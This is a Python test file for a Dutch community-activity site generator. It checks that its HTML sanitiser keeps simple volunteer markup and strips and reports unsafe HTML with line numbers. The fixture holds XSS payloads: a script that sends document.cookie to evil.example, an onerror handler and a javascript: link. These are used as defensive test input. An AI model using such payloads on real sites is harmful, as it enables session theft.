"""Bodies keep the simple HTML volunteers use; what is removed is reported at its line."""

from __future__ import annotations

from sitekit import make_site, run

from wijkgen import markup

ACTIVITY = """\
---
title: Peutergym
wijk: stadshagen
start: 2026-12-02 09:30
organisers: [sociaal-wijkteam]
---
Kom bewegen!<br>Neem <b>sokken</b> mee, <em>echt</em>.

<table><tr><th>Dag</th><td>woensdag</td></tr></table>

| Tijd | Wat |
| ---- | --- |
| 9:30 | Gym |

Meer info: <a href="https://example.org/gym" title="site">hier</a>.
<script>document.location='https://evil.example/?'+document.cookie</script>

<img src="https://example.org/gym.jpg" alt="Gymzaal" onerror="alert(1)">
<a href="JaVaScRiPt:alert(1)">klik</a> <span style="color:red">rood</span>
"""


def build(tmp_path):
    site = make_site(tmp_path, activities={"peutergym": ACTIVITY})
    return run(site, "build", "--today", "2026-11-28")


def test_simple_html_is_kept(tmp_path):
    result = build(tmp_path)
    assert result.code == 0, result.stdout
    page = result.output("activiteiten/peutergym/index.html")
    for kept in ("Kom bewegen!<br>", "<b>sokken</b>", "<em>echt</em>", "<th>Dag</th>",
                 "<td>woensdag</td>", "<td>Gym</td>", 'alt="Gymzaal"', ">hier</a>"):
        assert kept in page


def test_removed_html_is_reported_at_the_line_it_was_written(tmp_path):
    result = build(tmp_path)
    warnings = [line for line in result.lines if "onveilige HTML" in line]
    # file lines: the body starts on line 7; the script is on 16, the image on 18, the link on 19
    assert [w.split(": ")[0] for w in warnings] == [
        "content/activiteiten/peutergym.md:16:1",
        "content/activiteiten/peutergym.md:18:1",
        "content/activiteiten/peutergym.md:19:1",
    ]
    assert "<script>" in warnings[0]
    assert "onerror" in warnings[1]
    assert "href=javascript:alert(1)" in warnings[2].lower() and "style" in warnings[2]
    assert "<span>rood</span>" in result.output("activiteiten/peutergym/index.html")


def test_a_clean_body_gives_no_warning(tmp_path):
    clean = ACTIVITY.split("Meer info")[0]
    site = make_site(tmp_path, activities={"peutergym": clean})
    result = run(site, "check")
    assert result.code == 0
    assert "HTML" not in result.stdout


def test_render_reports_removed_things_with_body_lines():
    rendered = markup.render("regel een\n\n<iframe src='https://x.example'></iframe>\n")
    assert [(r.what, r.line) for r in rendered.removed] == [("<iframe>", 3)]
    assert "iframe" not in rendered.html


def test_links_get_rel_noopener_without_a_warning():
    rendered = markup.render("[site](https://example.org)")
    assert 'rel="noopener noreferrer"' in rendered.html
    assert rendered.removed == ()


def test_aligned_tables_and_fenced_code_with_a_language_are_no_mistake():
    rendered = markup.render("| Tijd | Wat |\n|:--|--:|\n| 9:30 | Gym |\n\n```python\nprint(1)\n```\n")
    assert rendered.removed == ()
    assert '<td align="left">9:30</td>' in rendered.html and '<td align="right">Gym</td>' in rendered.html
    assert "<code>print(1)" in rendered.html
